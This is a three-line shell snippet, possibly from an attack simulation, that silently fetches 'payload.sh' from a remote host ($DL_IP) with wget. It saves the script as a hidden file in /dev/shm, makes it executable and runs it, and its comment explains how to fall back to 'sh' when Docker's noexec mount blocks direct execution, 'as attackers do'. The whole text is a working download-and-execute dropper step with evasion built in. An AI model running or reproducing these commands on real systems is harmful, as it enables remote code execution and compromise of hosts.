wget -q -O /dev/shm/.x "http://$DL_IP:8000/payload.sh" && chmod +x /dev/shm/.x
# Docker mounts /dev/shm noexec: when the direct exec is refused, run it through the shell, as attackers do
/dev/shm/.x || sh /dev/shm/.x
